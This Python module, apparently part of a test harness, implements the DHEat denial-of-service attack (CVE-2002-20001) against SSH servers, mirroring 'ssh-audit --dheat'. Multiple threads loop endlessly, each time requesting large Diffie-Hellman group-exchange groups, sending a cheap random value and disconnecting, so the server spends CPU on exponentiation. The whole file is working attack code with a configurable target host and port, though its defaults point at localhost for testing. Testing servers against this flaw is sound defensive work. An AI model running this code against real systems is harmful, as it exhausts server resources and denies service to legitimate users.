"""A DHEat attacker (CVE-2002-20001), as ``ssh-audit --dheat`` runs it.

``python -m tests.harness.dheat --port P --source 127.0.0.2 --connections 12 --bits 8192``

Each of ``connections`` threads, from the ``source`` address, in a loop as
fast as it can: connect, exchange banners and KEXINIT offering only
Diffie-Hellman group exchange, ask for an 8192-bit group (by default
insisting: minimum 8192; ``--minimum`` for less),
answer the group with a random public value (which costs the attacker
nothing: it never computes its own exponentiation) and hang up without
waiting for the server's reply.  The server, however, must exponentiate.

Every half second it prints one JSON line of running totals on stdout:
``connections``, ``groups`` (the server sent a group), ``inits`` (we sent
our value), ``bits`` (of the last group), ``refused`` (the server hung up
before sending a group).
"""

from __future__ import annotations

import argparse
import json
import os
import secrets
import socket
import struct
import sys
import threading
import time

MSG_KEXINIT, MSG_GEX_GROUP, MSG_GEX_INIT, MSG_GEX_REQUEST = 20, 31, 32, 34


def name_list(*names: str) -> bytes:
    text = ",".join(names).encode()
    return struct.pack(">L", len(text)) + text


def packet(payload: bytes) -> bytes:
    """An unencrypted SSH packet (before the first NEWKEYS)."""
    padding = 8 - (len(payload) + 5) % 8
    if padding < 4:
        padding += 8
    return struct.pack(">LB", len(payload) + padding + 1, padding) + payload + os.urandom(padding)


def mpint(value: int) -> bytes:
    data = value.to_bytes(value.bit_length() // 8 + 1, "big")
    return struct.pack(">L", len(data)) + data


KEXINIT = bytes((MSG_KEXINIT,)) + os.urandom(16) + b"".join([
    name_list("diffie-hellman-group-exchange-sha256", "diffie-hellman-group-exchange-sha1"),
    name_list("ssh-ed25519", "rsa-sha2-256", "ssh-rsa"),
    name_list("aes128-ctr", "aes128-cbc"), name_list("aes128-ctr", "aes128-cbc"),
    name_list("hmac-sha2-256-etm@openssh.com", "hmac-sha2-256", "hmac-sha1"),
    name_list("hmac-sha2-256-etm@openssh.com", "hmac-sha2-256", "hmac-sha1"),
    name_list("none"), name_list("none"), name_list(), name_list(),
]) + b"\x00" + b"\x00\x00\x00\x00"


class Reader:
    def __init__(self, sock: socket.socket) -> None:
        self.sock = sock
        self.buffer = b""

    def need(self, size: int) -> bytes:
        while len(self.buffer) < size:
            chunk = self.sock.recv(65536)
            if not chunk:
                raise ConnectionError("closed")
            self.buffer += chunk
        data, self.buffer = self.buffer[:size], self.buffer[size:]
        return data

    def line(self) -> bytes:
        while b"\n" not in self.buffer:
            chunk = self.sock.recv(4096)
            if not chunk:
                raise ConnectionError("closed")
            self.buffer += chunk
        line, self.buffer = self.buffer.split(b"\n", 1)
        return line

    def message(self) -> bytes:
        length, padding = struct.unpack(">LB", self.need(5))
        if length > 1 << 20:
            raise ConnectionError("bad length")
        body = self.need(length - 1)
        return body[: len(body) - padding]


class Totals:
    def __init__(self) -> None:
        self.lock = threading.Lock()
        self.counts = {"connections": 0, "groups": 0, "inits": 0, "refused": 0, "bits": 0}

    def add(self, name: str, value: int = 1) -> None:
        with self.lock:
            self.counts[name] += value

    def set(self, name: str, value: int) -> None:
        with self.lock:
            self.counts[name] = value

    def line(self) -> str:
        with self.lock:
            return json.dumps(self.counts)


def attack_once(host: str, port: int, source: str, minimum: int, bits: int, totals: Totals) -> None:
    with socket.create_connection((host, port), timeout=60, source_address=(source, 0)) as sock:
        totals.add("connections")
        sock.sendall(b"SSH-2.0-dheat_test\r\n" + packet(KEXINIT))
        reader = Reader(sock)
        try:
            while not reader.line().startswith(b"SSH-"):
                pass
            while reader.message()[:1] != bytes((MSG_KEXINIT,)):
                pass
            sock.sendall(packet(bytes((MSG_GEX_REQUEST,)) + struct.pack(">3L", minimum, bits, bits)))
            message = reader.message()
            while message[:1] != bytes((MSG_GEX_GROUP,)):
                message = reader.message()
        except (ConnectionError, OSError):
            totals.add("refused")
            return
        (size,) = struct.unpack(">L", message[1:5])
        prime = int.from_bytes(message[5:5 + size], "big")
        totals.add("groups")
        totals.set("bits", prime.bit_length())
        value = 2 + secrets.randbelow(prime - 4)
        sock.sendall(packet(bytes((MSG_GEX_INIT,)) + mpint(value)))
        totals.add("inits")


def attacker(host: str, port: int, source: str, minimum: int, bits: int, totals: Totals) -> None:
    while True:
        try:
            attack_once(host, port, source, minimum, bits, totals)
        except OSError:
            totals.add("refused")
            time.sleep(0.01)


def main(argv: list[str] | None = None) -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--host", default="127.0.0.1")
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--source", default="127.0.0.2")
    parser.add_argument("--connections", type=int, default=12)
    parser.add_argument("--bits", type=int, default=8192)
    parser.add_argument("--minimum", type=int, default=0, help="smallest group accepted (default: --bits)")
    args = parser.parse_args(argv)
    totals = Totals()
    for _ in range(args.connections):
        threading.Thread(target=attacker, args=(args.host, args.port, args.source, args.minimum or args.bits,
                                                args.bits, totals),
                         daemon=True).start()
    while True:
        print(totals.line(), flush=True)
        time.sleep(0.5)


if __name__ == "__main__":
    try:
        main()
    except (KeyboardInterrupt, BrokenPipeError):
        sys.exit(0)
